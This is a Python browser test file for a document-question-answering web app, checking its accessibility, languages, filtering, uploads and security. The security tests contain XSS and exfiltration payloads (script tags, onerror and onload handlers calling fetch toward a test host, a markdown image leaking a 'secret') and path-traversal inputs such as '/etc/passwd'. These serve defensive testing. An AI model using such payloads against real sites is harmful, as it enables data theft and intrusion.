"""Around the conversation: safety, languages, documents, and everyone who reads differently."""

import json

import pytest
from axe_playwright_python.sync_playwright import Axe

from assistant import ScriptedChat, report_file
from assistant.ui.strings import strings
from evals.provider import Provider

from .conftest import ask, go
from .test_page import QUESTIONS

pytestmark = pytest.mark.browser


def payloads(there):
    return {
        "markdown": f"![x]({there}/?q=secret)",
        "html": f"<img src={there}/x.png onerror=\"fetch('{there}/e')\">",
        "script": f"<script>fetch('{there}/s')</script><script src={there}/t.js></script>",
        "style": f"<style>@import '{there}/c.css'; p {{ background: url({there}/b) }}</style>",
        "svg": f"<svg onload=\"fetch('{there}/o')\"><image href='{there}/i'/></svg>",
        "link": f"[click](javascript:fetch('{there}/j')) <{there}/a>",
        "template": f"${{fetch('{there}/h')}} {{{{constructor.constructor('alert(1)')()}}}}",
    }


@pytest.mark.parametrize("kind", payloads(""))
def test_G02_G03_H04_nothing_a_model_or_a_document_says_leaves_the_page(
    serve, visit, tmp_path, elsewhere, kind
):
    there, log = elsewhere
    payload = payloads(there)[kind]
    (tmp_path / "docs").mkdir()
    text = f"{payload}\nThe bridge was opened in May. {payload}\nIt cost 12 million euros.\n"
    (tmp_path / "docs" / "bridge.txt").write_text(text, encoding="utf-8")
    said = f"The bridge was opened in May [1]. {payload} [1] It cost 12 million euros [1]."
    page = visit(serve(tmp_path / "docs", ScriptedChat([[*said]])))
    alerts = []
    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
    turn = ask(page, "When was the bridge opened?")
    turn.locator(".cite").first.click()
    page.locator("#source mark.here").first.wait_for()
    turn.locator(".cite").first.hover()
    go(page, "documents")
    page.locator("#listed table").wait_for()
    go(page, "talk")
    page.reload()  # and once more, from what the browser kept
    page.locator(".turn[data-settled]").wait_for()
    assert log == []
    assert page.foreign == []
    assert alerts == []
    content = "#turns {0}, #source {0}, #listed {0}, #peek {0}, #kept {0}"
    for tag in ("img", "script", "a", "style", "iframe", "image"):
        assert page.locator(content.format(tag)).count() == 0


def test_G02_even_markup_in_the_page_could_neither_run_nor_load(serve, visit, seeds, elsewhere):
    there, log = elsewhere
    page = visit(serve(seeds))
    page.evaluate(
        """there => { document.getElementById('turns').innerHTML =
            `<img src="${there}/i"><img src=x onerror="window.ran=1"><iframe src="${there}/f">
             </iframe><link rel=stylesheet href="${there}/c"><form action="${there}/p"></form>`;
          const script = document.createElement('script');
          script.textContent = 'window.ran = 2';
          document.body.append(script);
          fetch(there + '/x').catch(() => { document.body.dataset.refused = ''; });
        }""",
        there,
    )
    page.locator("body[data-refused]").wait_for()
    page.evaluate("document.querySelector('#turns form').submit()")
    assert page.evaluate("window.ran") is None
    assert log == []


@pytest.mark.parametrize("language", ["en", "fr", "de", "it"])
def test_H15_the_page_speaks_the_browsers_language(serve, visit, seeds, language):
    page = visit(serve(seeds), locale=language)
    said = strings(language)
    assert page.evaluate("document.documentElement.lang") == language
    assert page.locator("#box").get_attribute("placeholder") == said["placeholder"]
    assert page.locator(".tab[data-tab=documents]").inner_text() == said["tab_documents"]


def test_H15_another_language_can_be_chosen_and_is_remembered(serve, visit, seeds):
    page = visit(serve(seeds))
    ask(page, QUESTIONS["de"])
    page.select_option("#language", "it")
    page.get_by_text(strings("it")["new"]).wait_for()
    assert page.evaluate("document.documentElement.lang") == "it"
    page.locator(".turn[data-settled] .answer[lang=de]").wait_for()  # the answer keeps its own
    page.reload()
    page.wait_for_selector("#attesto[data-ready]")
    assert page.evaluate("document.documentElement.lang") == "it"


def serious(page):
    found = Axe().run(page).response["violations"]
    return [
        (fault["id"], fault["nodes"][0]["target"], fault["nodes"][0].get("failureSummary"))
        for fault in found
        if fault["impact"] in ("serious", "critical")
    ]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_H14_axe_finds_no_serious_fault(serve, visit, tmp_path, scheme, width):
    folder = tmp_path / "docs"
    folder.mkdir()
    text = "The bridge was opened in May. It cost 12 million euros.\n\nBridges are long.\n"
    (folder / "bridge.txt").write_text(text, encoding="utf-8")
    (folder / "pont.txt").write_text("Le pont a coûté 12 millions d'euros.\n", encoding="utf-8")
    (folder / "photo.bin").write_bytes(b"\x00")
    replies = ["It was opened in May [1]. It cost 21 million euros [1].", "NOT_IN_DOCUMENTS"]
    page = visit(
        serve(folder, ScriptedChat(replies), door={"allow_upload": True}),
        viewport={"width": width, "height": 800},
        color_scheme=scheme,
        bypass_csp=True,
    )
    assert serious(page) == []
    turn = ask(page, "What did the bridge cost?")
    turn.locator(".why").click()
    assert serious(page) == []
    page.keyboard.press("Escape")
    turn.locator(".unhelpful").click()
    assert serious(page) == []
    ask(page, "How high is Mont Blanc?")
    page.locator(".cite").first.click()
    page.locator("#source mark.here").first.wait_for()
    assert serious(page) == []
    page.locator("[data-do=close]").click()
    go(page, "documents")
    page.locator("#listed table").wait_for()
    assert serious(page) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_H14_axe_finds_no_serious_fault_in_sides_and_translations(serve, visit, seeds, scheme):
    with Provider() as provider:
        page = visit(
            serve(seeds, "faithful", base_url=provider.url),
            viewport={"width": 1280, "height": 800},
            color_scheme=scheme,
            bypass_csp=True,
        )
        turn = ask(page, "How much could AI contribute to Russia's GDP by 2030?")
        turn.locator(".side").first.wait_for()
        turn.locator(".cite").first.click()
        page.locator("#gloss button").click()
        page.locator("#gloss .by").wait_for()
        assert serious(page) == []


@pytest.mark.parametrize("width", [320, 390, 768, 1280, 1920])
def test_H14_nothing_is_wider_than_the_screen(serve, visit, seeds, width):
    page = visit(serve(seeds), viewport={"width": width, "height": 844}, color_scheme="dark")
    turn = ask(page, "Donaudampfschifffahrtsgesellschaft" * 8 + " " + QUESTIONS["en"])
    if turn.locator(".cite").count():
        turn.locator(".cite").first.click()
        page.locator("#source mark.here").first.wait_for()
    go(page, "documents")
    page.locator("#listed table").wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_H14_the_keyboard_reaches_question_citation_and_source(serve, visit, seeds):
    page = visit(serve(seeds))
    page.keyboard.press("Shift+Tab")
    page.locator("body").press("Tab")
    page.locator("#box").focus()
    page.keyboard.type(QUESTIONS["fr"])
    page.keyboard.press("Enter")
    page.locator(".turn[data-settled]").wait_for()
    page.locator("[data-do=close]").click()
    page.locator("#turns").focus()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "cite"
    page.keyboard.press("Enter")
    page.locator("#source mark.here").first.wait_for()
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.className") == "cite"  # back where it was


def test_dark_and_light_follow_the_system_until_one_is_chosen(serve, visit, seeds):
    page = visit(serve(seeds), color_scheme="dark")
    ground = "getComputedStyle(document.body).backgroundColor"
    dark = page.evaluate(ground)
    page.click("[data-do=theme]")
    assert page.evaluate("document.documentElement.dataset.theme") == "light"
    assert page.evaluate(ground) != dark
    page.reload()
    page.wait_for_selector("#attesto[data-ready]")
    assert page.evaluate("document.documentElement.dataset.theme") == "light"


def test_the_documents_are_listed_with_what_was_left_out(serve, visit, seeds, tmp_path):
    page = visit(serve(seeds))
    go(page, "documents")
    page.locator("#listed tbody tr").first.wait_for()
    assert page.locator("#listed tbody tr").count() == 5
    assert page.locator(".drop").count() == 0  # adding is off unless it is allowed
    page.locator(".open").first.click()
    page.locator("#source .text").wait_for()
    page.locator(".dot").first.focus()
    page.keyboard.press("ArrowRight")
    page.keyboard.press("Enter")
    page.locator("#source mark.here").first.wait_for()


@pytest.mark.parametrize(
    ("kind", "value", "shown"),
    [
        ("only", "language:it", "Italian"),
        ("only", "file:ponte.md", "Il ponte"),
        ("since", "2025-03-01", "all documents from 2025-03-01"),
    ],
)
def test_a_search_is_narrowed_to_a_language_a_document_or_days(
    serve, visit, tmp_path, kind, value, shown
):
    folder = tmp_path / "docs"
    folder.mkdir()
    for name, title, date, text in (
        ("bridge.md", "The bridge", "2024-05-01", "The new bridge cost 12 million euros."),
        ("ponte.md", "Il ponte", "2025-06-01", "Il nuovo ponte è costato 15 milioni di euro."),
    ):
        page = f"---\ntitle: {title}\ndate: {date}\n---\n\n{text}\n"
        (folder / name).write_text(page, encoding="utf-8")
    page = visit(serve(folder))
    page.click(".filter summary")
    page.select_option("#only", value) if kind == "only" else page.fill("#since", value)
    assert page.locator("#narrowed").inner_text() == shown
    answer = ask(page, "What did the new bridge cost?").evaluate("turn => turn.answer")
    found = [*answer["citations"], *answer["nearest"]]
    assert {place["file"] for place in found} == {"ponte.md"}


@pytest.mark.parametrize("language", ["en", "fr", "de", "it"])
def test_H15_what_was_left_out_and_why_is_told_in_the_readers_language(
    serve, visit, tmp_path, language
):
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "photo.bin").write_bytes(b"\x00")
    (folder / "empty.txt").write_bytes(b"")
    page = visit(serve(folder), locale=language)
    said = strings(language)
    assert page.locator(".welcome h2").inner_text() == said["welcome_empty"]
    go(page, "documents")
    page.locator(".left-out li").first.wait_for()
    assert sorted(page.locator(".left-out li").all_inner_texts()) == [
        f"empty.txt {said['skip_empty']}",
        f"photo.bin {said['skip_unsupported']}",
    ]


def test_the_last_report_is_shown_without_any_right(serve, visit, seeds, elsewhere):
    there, log = elsewhere
    page = visit(serve(seeds))
    go(page, "quality")
    page.get_by_text("There is no report yet").wait_for()
    report_file().write_text(
        f"<h1>How well?</h1><img src='{there}/i'><script>fetch('{there}/s')</script>", "utf-8"
    )
    go(page, "talk")
    go(page, "quality")
    page.frame_locator("#quality iframe").get_by_text("How well?").wait_for()
    assert page.locator("#quality iframe").get_attribute("sandbox") == ""
    assert log == []


def test_a_dropped_document_is_read_and_answers(serve, visit, tmp_path):
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "a.txt").write_text("The museum is closed on Mondays.\n", encoding="utf-8")
    page = visit(serve(folder, door={"allow_upload": True}))
    go(page, "documents")
    text = "Il ponte sul fiume è costato 12 milioni di euro.\n"
    page.evaluate(
        """text => {
          const data = new DataTransfer();
          data.items.add(new File([text], '../ponte.txt'));
          document.querySelector('.drop').dispatchEvent(
            new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }));
        }""",
        text,
    )
    page.get_by_text("1 new, 0 changed, 0 removed").wait_for()
    assert (folder / "ponte.txt").read_text("utf-8") == text
    go(page, "talk")
    turn = ask(page, "Quanto è costato il ponte?")
    assert "12 milioni" in turn.locator(".answer").inner_text()


def test_H05_adding_is_refused_unless_it_is_allowed(serve, seeds):
    import httpx

    address = serve(seeds)
    for path in ("/attesto/documents?name=x.txt", "/gradio_api/upload"):
        reply = httpx.post(address + path, content=b"x" * 30_000_000)
        assert reply.status_code in (404, 413)
    small = httpx.post(address + "/attesto/documents?name=x.txt", content=b"")
    assert small.status_code == 400
    assert not (seeds / "x.txt").exists()


@pytest.mark.parametrize("file", ["../pyproject.toml", "/etc/passwd", "%2e%2e/x", "a\\b", "\u0000"])
def test_G15_no_file_but_the_catalogues_own_is_a_source(serve, seeds, file):
    import httpx

    address = serve(seeds)
    replies = {
        (reply.status_code, reply.text)
        for name in (file, "no such file.txt")
        for reply in [httpx.get(f"{address}/attesto/source", params={"file": name})]
    }
    assert len(replies) == 1
    assert next(iter(replies))[0] == 404


def test_the_named_endpoints_give_the_contracts_json(serve, seeds):
    from gradio_client import Client

    client = Client(serve(seeds), verbose=False)
    answer = client.predict(QUESTIONS["fr"], api_name="/ask")
    assert answer["language"] == "fr"
    cited = answer["citations"][0]
    source = (seeds / cited["file"]).read_text(encoding="utf-8")
    assert source[cited["start"] : cited["end"]] == cited["quote"]
    hits = client.predict("Bank of China", 3, api_name="/search")
    assert len(hits) == 3
    assert {"file", "start", "end", "text", "score"} <= set(hits[0])
    events = list(client.submit(QUESTIONS["de"], [], "de", api_name="/converse"))
    assert events[-1]["kind"] == "done"
    assert events[-1]["answer"]["language"] == "de"
    json.dumps(events)
